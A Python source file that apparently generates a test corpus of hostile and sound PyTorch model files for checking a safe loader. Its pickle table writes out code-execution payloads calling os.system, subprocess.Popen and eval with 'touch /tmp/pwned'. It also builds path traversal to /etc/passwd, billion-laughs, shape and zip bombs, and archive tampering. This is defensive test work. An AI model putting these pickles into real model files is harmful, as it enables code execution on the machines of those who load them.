"""Hostile files of PyTorch: pickles, tensors that do not lie in their storages, archives, and the layout before 1.6."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Mapping

import numpy as np
import torch_support as made
from archive_attacks import patched, zip_attacks, zipped
from attacked_model import BIAS, KERNEL, RECURRENT

#: Storages of the state dict: weight_ih, weight_hh, bias_ih, bias_hh.
STORAGES = {"0": KERNEL.tobytes(), "1": RECURRENT.tobytes(), "2": BIAS.tobytes(), "3": bytes(16)}

WEIGHTS = {
    "weight_ih_l0": made.tensor((4, 1), (1, 1), block=made.storage("0")),
    "weight_hh_l0": made.tensor((4, 1), (1, 1), block=made.storage("1")),
    "bias_ih_l0": made.tensor((4,), (1,), block=made.storage("2")),
    "bias_hh_l0": made.tensor((4,), (1,), block=made.storage("3")),
}


def torch_members(body: bytes, storages: Mapping[str, bytes] = STORAGES, order: bytes = b"little") -> dict[str, bytes]:
    members = {"m/data.pkl": made.pickled(body), "m/byteorder": order, "m/version": b"3\n"}
    return members | {f"m/data/{key}": raw for key, raw in storages.items()}


def torch_file(body: bytes, storages: Mapping[str, bytes] = STORAGES, order: bytes = b"little") -> bytes:
    return zipped(torch_members(body, storages, order))


def with_value(value: bytes) -> bytes:
    """Return a sound state dict with one more entry."""
    return torch_file(made.mapping(**WEIGHTS, more=value))


def with_weight(**changed: bytes) -> bytes:
    return torch_file(made.mapping(**{**WEIGHTS, **changed}))


def called(module: str, name: str, *arguments: bytes) -> bytes:
    return made.name(module, name) + made.MARK + b"".join(arguments) + made.TUPLE + made.REDUCE


def persistent(*parts: bytes) -> bytes:
    return made.MARK + b"".join(parts) + made.TUPLE + made.PERSISTENT_ID


def nested(depth: int) -> bytes:
    """Lists in lists, with a tensor inside so that they are looked into."""
    return made.EMPTY_LIST * depth + made.tensor(block=made.storage("2")) + made.APPEND * depth


ORDERED = made.name("collections", "OrderedDict") + made.EMPTY_TUPLE + made.REDUCE
OS_SYSTEM = made.name("os", "system")
LINE = made.text("touch /tmp/pwned")

PICKLES: dict[str, bytes] = {
    "reduce_os_system": called("os", "system", LINE),
    "reduce_posix_system": called("posix", "system", LINE),
    "reduce_nt_system": called("nt", "system", LINE),
    "reduce_builtins_eval": called("builtins", "eval", made.text("1")),
    "reduce_builtins_exec_py2": called("__builtin__", "exec", made.text("1")),
    "reduce_builtins_getattr": called("builtins", "getattr", made.text("x"), made.text("y")),
    "reduce_builtins_import": called("builtins", "__import__", made.text("os")),
    "reduce_subprocess_popen": called("subprocess", "Popen", LINE),
    "reduce_runpy": called("runpy", "_run_code", LINE),
    "reduce_webbrowser": called("webbrowser", "open", made.text("http://localhost")),
    "reduce_pip_main": called("pip", "main", made.EMPTY_LIST),
    "reduce_operator_attrgetter": called("operator", "attrgetter", made.text("system")),
    "reduce_torch_load": called("torch", "load", made.text("other.pt")),
    "reduce_torch_hub_load": called("torch.hub", "load", made.text("evil/repository")),
    "reduce_torch_load_from_bytes": called("torch.storage", "_load_from_bytes", b"C\x02\x80."),
    "reduce_torch_wrapper_subclass": called("torch._utils", "_rebuild_wrapper_subclass", made.NONE),
    "reduce_torch_dynamo": called("torch._dynamo.guards", "GuardBuilder.get", made.text("1")),
    "reduce_torch_rebuild_other_type": called(
        "torch._tensor", "_rebuild_from_type_v2", OS_SYSTEM, made.name("torch", "Tensor"), LINE + made.TUPLE1,
        made.EMPTY_DICT,
    ),
    "reduce_numpy_runstring": called("numpy.testing._private.utils", "runstring", made.text("1"), made.EMPTY_DICT),
    "reduce_numpy_subclass": called(
        "numpy.core.multiarray", "_reconstruct", made.name("evil", "ndarray"), made.whole((0,)), made.text("b")
    ),
    "reduce_of_a_text": made.text("print") + made.EMPTY_TUPLE + made.REDUCE,
    "reduce_of_a_tensor": made.tensor(block=made.storage("2")) + made.EMPTY_TUPLE + made.REDUCE,
    "reduce_that_nobody_uses": made.MARK + called("os", "system", LINE) + made.TUPLE + made.NONE + made.TUPLE2,
    "reduce_codec_zlib": called("_codecs", "encode", made.text("x"), made.text("zlib_codec")),
    "stack_global_dotted": b"\x8c\x02os\x8c\x0bpath.system\x93" + made.EMPTY_TUPLE + made.REDUCE,
    "stack_global_of_numbers": b"K\x01K\x02\x93",
    "global_endless": b"c" + b"a" * 1000,
    "global_terminal_escape": b"\x8c\x02os\x8c\x08\x1b[2Jevil\x93" + made.EMPTY_TUPLE + made.REDUCE,
    "newobj_module": made.name("torch.nn.modules.rnn", "LSTM") + made.EMPTY_TUPLE + made.NEWOBJ,
    "newobj_of_an_allowed_call": made.name("collections", "OrderedDict") + made.EMPTY_TUPLE + made.NEWOBJ,
    "newobj_of_a_text": made.text("LSTM") + made.EMPTY_TUPLE + made.NEWOBJ,
    "newobj_ex": OS_SYSTEM + made.EMPTY_TUPLE + made.EMPTY_DICT + b"\x92",
    "build_class_of_ordereddict": ORDERED + made.mapping(__class__=OS_SYSTEM) + made.BUILD,
    "build_method_of_ordereddict": ORDERED + made.mapping(items=OS_SYSTEM) + made.BUILD,
    "build_setstate_of_ordereddict": ORDERED + made.mapping(__setstate__=OS_SYSTEM) + made.BUILD,
    "build_a_tensor": made.tensor(block=made.storage("2")) + made.mapping(data=made.NONE) + made.BUILD,
    "build_a_name": made.name("torch.nn", "Module") + made.mapping(forward=made.NONE) + made.BUILD,
    "build_a_dict": made.EMPTY_DICT + made.mapping(__class__=made.NONE) + made.BUILD,
    "inst": made.MARK + LINE + b"ios\nsystem\n",
    "obj": made.MARK + OS_SYSTEM + LINE + b"o",
    "ext1": b"\x82\x01",
    "ext2": b"\x83\x01\x00",
    "ext4": b"\x84\x01\x00\x00\x00",
    "persid": b"Pstorage\n",
    "next_buffer": b"\x97",
    "readonly_buffer": made.NONE + b"\x98",
    "persistent_id_module": persistent(
        made.text("module"), made.name("torch.nn.modules.rnn", "LSTM"), made.NONE, made.NONE
    ),
    "persistent_id_number": b"K\x01" + made.PERSISTENT_ID,
    "persistent_id_other_kind": persistent(made.text("file"), made.text("/etc/passwd")),
    "persistent_id_class_of_os": persistent(
        made.text("storage"), made.name("os", "FloatStorage"), made.text("0"), made.text("cpu"), b"K\x04"
    ),
    "persistent_id_key_of_numbers": persistent(
        made.text("storage"), made.name("torch", "FloatStorage"), b"K\x00", made.text("cpu"), b"K\x04"
    ),
    "persistent_id_size_negative": made.storage(size=-1),
    "persistent_id_size_text": persistent(
        made.text("storage"), made.name("torch", "FloatStorage"), made.text("0"), made.text("cpu"), made.text("4")
    ),
    "persistent_id_of_the_parent": made.tensor(block=made.storage("../../etc/passwd")),
    "memo_far": made.NONE + made.put(0xFFFF_FFFF),
    "memo_empty": made.get(7),
    "marks_deep": made.MARK * 10_000,
    "lists_deep": nested(5_000),
    "billion_laughs": made.laughs(30, made.tensor(block=made.storage("2"))),
    "list_in_itself": made.EMPTY_LIST + made.put(9) + made.get(9) + made.APPEND
    + made.tensor(block=made.storage("2")) + made.APPEND,
    "dict_in_itself": made.EMPTY_DICT + made.put(9) + made.text("a") + made.get(9) + made.SETITEM,
    "string_of_exabytes": b"\x8d" + struct.pack("<Q", 1 << 60),
    "string_of_two_gigabytes": b"X\xff\xff\xff\x7f",
    "string_not_utf8": b"X\x01\x00\x00\x00\xff",
    "integer_of_two_gigabytes": b"\x8b\xff\xff\xff\x7f",
    "key_of_a_list": made.EMPTY_DICT + made.EMPTY_LIST + made.NONE + made.SETITEM,
    "key_that_collides": made.EMPTY_DICT + made.integer(2**61 - 1) + made.NONE + made.SETITEM,
    "opcode_unknown": b"\xff",
    "opcode_dup": made.NONE + b"2",
    "stack_empty": b"0",
    "mark_missing": made.NONE + made.TUPLE,
}  # fmt: skip

#: Tensors that do not lie in their storages, in place of a bias of four elements.
TENSORS: dict[str, bytes] = {
    "past_the_storage": made.tensor((5,), (1,), block=made.storage("2")),
    "offset_past_the_storage": made.tensor((4,), (1,), 1, made.storage("2")),
    "offset_huge": made.tensor((4,), (1,), 1 << 62, made.storage("2")),
    "offset_negative": made.tensor((4,), (1,), -1, made.storage("2")),
    "stride_negative": made.tensor((4,), (-1,), block=made.storage("2")),
    "stride_huge": made.tensor((4,), (1 << 62,), block=made.storage("2")),
    "stride_missing": made.tensor((4, 1), (1,), block=made.storage("2")),
    "shape_bomb_broadcast": made.tensor((1 << 20, 1 << 20), (0, 0), block=made.storage("2")),
    "shape_bomb_of_128_bits": made.tensor((1 << 64, 1 << 64), (0, 0), block=made.storage("2")),
    "shape_bomb_behind_a_zero": made.tensor((0, 1 << 62), (1, 1), block=made.storage("2")),
    "shape_negative": made.tensor((-4,), (1,), block=made.storage("2")),
    "rank_65": made.tensor((1,) * 65, (1,) * 65, block=made.storage("2")),
    "storage_missing": made.tensor(block=made.storage("7")),
    "storage_too_small": made.tensor((8,), (1,), block=made.storage("2", 8)),
    "storage_of_exabytes": made.tensor((4,), (1,), block=made.storage("2", 1 << 60)),
    "storage_quantized": made.tensor(block=made.storage("2", kind="QInt8Storage")),
    "storage_unknown": made.tensor(block=made.storage("2", kind="EvilStorage")),
    "storage_none": made.tensor(block=made.NONE),
}


def legacy(
    body: bytes, *, little: bytes = made.TRUE, keys: bytes | None = None, storages: bytes | None = None
) -> bytes:
    """Return a file of the layout before PyTorch 1.6."""
    machine = made.mapping(protocol_version=made.integer(1001), little_endian=little)
    listed = made.EMPTY_LIST + made.MARK + b"".join(made.text(key) for key in STORAGES) + made.APPENDS
    parts = [made.integer(0x1950A86A20F9469CFC6C), made.integer(1001), machine, body, listed if keys is None else keys]
    raw = b"".join(struct.pack("<q", 4) + raw for raw in STORAGES.values())
    return b"".join(made.pickled(part) for part in parts) + (raw if storages is None else storages)


def torch_corpus() -> dict[str, bytes]:
    sound = made.mapping(**WEIGHTS)
    base = torch_file(sound)
    files = {f"n_torch_pickle_{name}.pt": with_value(value) for name, value in PICKLES.items()}
    files |= {f"n_torch_tensor_{name}.pt": with_weight(bias_ih_l0=value) for name, value in TENSORS.items()}
    files |= {f"n_torch_zip_{name}.pt": data for name, data in zip_attacks(base, "m/version", "m/data/0").items()}
    wrong = np.array(BIAS)
    for name, value in (("nan", np.nan), ("inf", np.inf)):
        wrong[1] = value
        files[f"n_torch_weight_{name}.pt"] = torch_file(sound, {**STORAGES, "2": wrong.tobytes()})
    files |= {
        "n_torch_zip_compressed.pt": zipped(torch_members(sound), zipfile.ZIP_DEFLATED),
        "n_torch_zip_bomb.pt": zipped({**torch_members(sound), "m/data/9": bytes(1 << 21)}, zipfile.ZIP_DEFLATED),
        "n_torch_zip_two_pickles.pt": zipped({**torch_members(sound), "n/data.pkl": made.pickled(sound)}),
        "n_torch_zip_checksum.pt": patched(base, (base.index(STORAGES["0"]), b"\xff")),
        "n_torch_zip_big_endian.pt": torch_file(sound, order=b"big"),
        "n_torch_zip_byteorder_junk.pt": torch_file(sound, order=b"\x1b[2J"),
        "n_torch_zip_script.pt": zipped({**torch_members(sound), "m/code/__torch__.py": b"x", "m/constants.pkl": b"."}),
        "n_torch_name_in_front_of_many.pt": torch_file(
            made.EMPTY_DICT + made.text("n" * 5000) + made.mapping(**WEIGHTS) + made.SETITEM
        ),
        "n_torch_packed_bomb.pt": with_weight(
            weight_ih_l0=made.tensor((4, 1 << 21), (0, 0), block=made.storage("2"))
        ),
        "n_torch_bare_pickle.pt": made.pickled(called("os", "system", LINE)),
        "n_torch_no_mapping.pt": torch_file(made.tensor(block=made.storage("2"))),
        "n_torch_legacy_reduce.pt": legacy(made.mapping(**WEIGHTS, more=called("os", "system", LINE))),
        "n_torch_legacy_reduce_in_keys.pt": legacy(sound, keys=called("os", "system", LINE)),
        "n_torch_legacy_big_endian.pt": legacy(sound, little=made.FALSE),
        "n_torch_legacy_size_negative.pt": legacy(sound, storages=struct.pack("<q", -4)),
        "n_torch_legacy_size_huge.pt": legacy(sound, storages=struct.pack("<q", 1 << 62)),
        "n_torch_legacy_key_unknown.pt": legacy(sound, keys=made.EMPTY_LIST + made.text("9") + made.APPEND),
        "n_torch_legacy_key_twice.pt": legacy(
            sound, keys=made.EMPTY_LIST + made.MARK + made.text("0") * 2 + made.APPENDS
        ),
        "n_torch_legacy_keys_no_list.pt": legacy(sound, keys=made.integer(3)),
        "y_torch_plain.pt": base,
        "y_torch_legacy.pt": legacy(sound),
        "y_torch_ordered_dict.pt": torch_file(ORDERED + sound[1:]),
        "y_torch_shared_and_strided.pt": torch_file(
            made.mapping(**{
                **WEIGHTS,
                "weight_ih_l0": made.tensor((4, 1), (2, 1), block=made.storage("0", 8)),
                "weight_hh_l0": made.tensor((4, 1), (2, 1), 1, made.storage("0", 8)),
            }),
            {**STORAGES, "0": np.stack([KERNEL[0], RECURRENT[0]], axis=1).tobytes()},
        ),
        "y_torch_more_values.pt": with_value(made.laughs(3) + made.integer(7) + b"G" + bytes(8) + made.TUPLE3),
        "y_torch_without_checksums.pt": without_checksums(base),
        "y_torch_directories.pt": zipped({**torch_members(sound), "m/data/": b"", "m/ünïcode": b"x"}),
        "y_torch_names_of_globals_unused.pt": with_value(OS_SYSTEM),
    }  # fmt: skip
    return files


def without_checksums(data: bytes) -> bytes:
    """Return an archive all of whose checksums are zero."""
    for signature, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        place = data.find(signature)
        while place >= 0:
            data = patched(data, (place + offset, bytes(4)))
            place = data.find(signature, place + 4)
    return data
